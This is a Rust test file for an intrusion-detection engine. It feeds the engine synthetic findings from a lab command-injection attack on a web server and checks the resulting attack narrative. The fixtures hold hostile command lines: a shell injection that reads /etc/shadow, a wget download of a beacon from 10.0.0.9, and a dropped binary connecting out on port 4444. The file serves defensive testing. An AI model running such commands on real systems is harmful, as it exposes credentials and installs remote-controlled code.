//! The first scenario of the lab, told from its findings: a command injection into a web server.

use clew_event::finding::ProcessFacts;
use clew_event::{Finding, Priority, Story};
use expect_test::{Expect, expect};

use crate::sample::{Sample, process};
use crate::{Settings, Stories};

fn server() -> ProcessFacts {
    process(12, "netcheck", "netcheck", 0)
}

fn dropped(pid: u32, started_ms: u64) -> ProcessFacts {
    let mut facts = process(pid, ".update", "/tmp/.update 10.0.0.9 4444", started_ms);
    facts.exe = "/tmp/.update".into();
    facts.is_dropped = true;
    facts
}

/// The shell of an honest request below the same server.
pub(crate) fn honest_request(pid: u32, ms: u64) -> Finding {
    let sh = process(pid, "sh", "sh -c ping -c 1 -W 1 127.0.0.1", ms);
    Sample::new("server_ran_a_shell", 1)
        .priority(Priority::Notice)
        .techniques(&["T1059.004", "T1190"])
        .lineage(&[sh, server()])
        .at(ms)
        .about_start()
        .finding()
}

/// The findings of one attack, beginning with `pid`.
pub(crate) fn attack(pid: u32, ms: u64) -> Vec<Finding> {
    let sh = process(pid, "sh", "sh -c ping -c 1 -W 1 127.0.0.1; id; cat /etc/shadow; …", ms);
    let child = |number: u32, name: &str, line: &str| {
        [process(pid + number, name, line, ms + u64::from(number) * 10), sh.clone(), server()]
    };
    let beacon = [dropped(pid + 5, ms + 60), sh.clone(), server()];
    let step = |rule: &str, priority, techniques: &[&str]| {
        let mut sample = Sample::new(rule, 1).priority(priority).techniques(techniques);
        sample = sample.at(ms);
        sample
    };
    let run = |sample: Sample, lineage: &[ProcessFacts], after: u64| {
        sample.lineage(lineage).at(ms + after).about_start().finding()
    };
    vec![
        run(
            step("server_ran_a_shell", Priority::Notice, &["T1059.004", "T1190"]),
            &[sh.clone(), server()],
            0,
        ),
        run(
            step("system_explored", Priority::Informational, &["T1082"]),
            &child(1, "uname", "uname -a"),
            11,
        ),
        step("password_hashes_read", Priority::Warning, &["T1003.008"])
            .lineage(&child(2, "cat", "cat /etc/shadow"))
            .file("/etc/shadow")
            .at(ms + 25)
            .finding(),
        step("tool_fetched", Priority::Notice, &["T1105"])
            .lineage(&child(3, "wget", "wget -q -O /tmp/.update http://10.0.0.9:8000/beacon"))
            .file("/tmp/.update")
            .at(ms + 40)
            .finding(),
        run(
            step("dropped_binary_executed", Priority::Warning, &["T1036.005", "T1059"]),
            &beacon,
            61,
        ),
        step("dropped_binary_connected", Priority::Warning, &["T1071", "T1571"])
            .lineage(&beacon)
            .peer("10.0.0.9:4444")
            .at(ms + 70)
            .finding(),
    ]
}

fn told(findings: &[Finding]) -> Vec<Story> {
    let mut stories = Stories::new(Settings::default());
    let mut revisions = Vec::new();
    for finding in findings {
        stories.join(finding, &mut revisions);
    }
    revisions
}

fn check(story: &Story, expected: Expect) {
    expected.assert_eq(&story.narrative);
}

#[test]
fn an_attack_beside_honest_requests_is_one_story_that_holds_none_of_them() {
    let mut findings = vec![honest_request(50, 0), honest_request(60, 900)];
    findings.extend(attack(100, 1_000));
    findings.extend([honest_request(200, 1_050), honest_request(300, 1_500)]);
    findings.sort_by_key(|finding| finding.time);
    let revisions = told(&findings);
    let ids: std::collections::BTreeSet<_> = revisions.iter().map(|story| story.id).collect();
    assert_eq!(ids.len(), 1);
    let story = revisions.last().unwrap();
    assert_eq!(story.steps.len(), 6);
    assert_eq!(story.root.process.map(|process| process.pid), Some(100));
    assert_eq!(story.revision, u32::try_from(revisions.len()).unwrap());
    check(
        story,
        expect![[r#"
            CRITICAL: `sh` below `netcheck` in container `shop`: initial access, execution, discovery, credential access, command and control and defense evasion
            From 2025-11-24T18:02:03.000000000Z for 0.1 s.

            Where it began
              `netcheck` (pid 12) started `sh -c ping -c 1 -W 1 127.0.0.1; id; cat /etc/shadow; …` (pid 100) in container `shop` (image `shop:1`) on node `n4`.

            What it did
               1. 18:02:03.000 server_ran_a_shell (`sh -c ping -c 1 -W 1 127.0.0.1; id; cat /etc/shadow; …` (pid 100)). [T1059.004 Unix Shell, T1190 Exploit Public-Facing Application] (e-00000000000000070001000000000064)
               2. 18:02:03.011 system_explored (`uname -a` (pid 101)). [T1082 System Information Discovery] (e-00000000000000070001000000000065)
               3. 18:02:03.025 password_hashes_read (`cat /etc/shadow` (pid 102)). [T1003.008 /etc/passwd and /etc/shadow] (e-00000000000000070000000000000401)
               4. 18:02:03.040 tool_fetched (`wget -q -O /tmp/.update http://10.0.0.9:8000/beacon` (pid 103)). [T1105 Ingress Tool Transfer] (e-00000000000000070000000000000410)
               5. 18:02:03.061 dropped_binary_executed (`/tmp/.update 10.0.0.9 4444` (pid 105)). [T1036.005 Match Legitimate Resource Name or Location, T1059 Command and Scripting Interpreter] (e-00000000000000070001000000000069)
               6. 18:02:03.070 dropped_binary_connected (`/tmp/.update 10.0.0.9 4444` (pid 105), peer `10.0.0.9:4444`). [T1071 Application Layer Protocol, T1571 Non-Standard Port] (e-0000000000000007000000000000042e)

            Why this is one attack
              Steps 2, 3, 4 and 5: caused by step 1.
              Step 6: caused by step 5.
              `sh` (pid 100) started `uname` (pid 101).
              `sh` (pid 100) started `cat` (pid 102).
              `sh` (pid 100) started `wget` (pid 103).
              `sh` (pid 100) started `.update` (pid 105).
              `.update` (pid 105) did both.

            What is at stake: credentials, data or a way out
              Credentials were reached: `/etc/shadow`.
              There is a way out: it spoke with `10.0.0.9:4444`.
              What is not part of the image ran: `/tmp/.update`.
              Container `shop` ran commands for someone.

            What could not be seen
              Nothing that is known of.

            How sure this is
              59.4 bits against coincidence: findings 35.4, ties 20.0, order of tactics 4.0. A story is told from 10.6 bits.
        "#]],
    );
}

#[test]
fn honest_requests_alone_are_no_story() {
    let findings: Vec<_> = (0..200).map(|n| honest_request(50 + n, u64::from(n) * 200)).collect();
    assert_eq!(told(&findings), []);
}
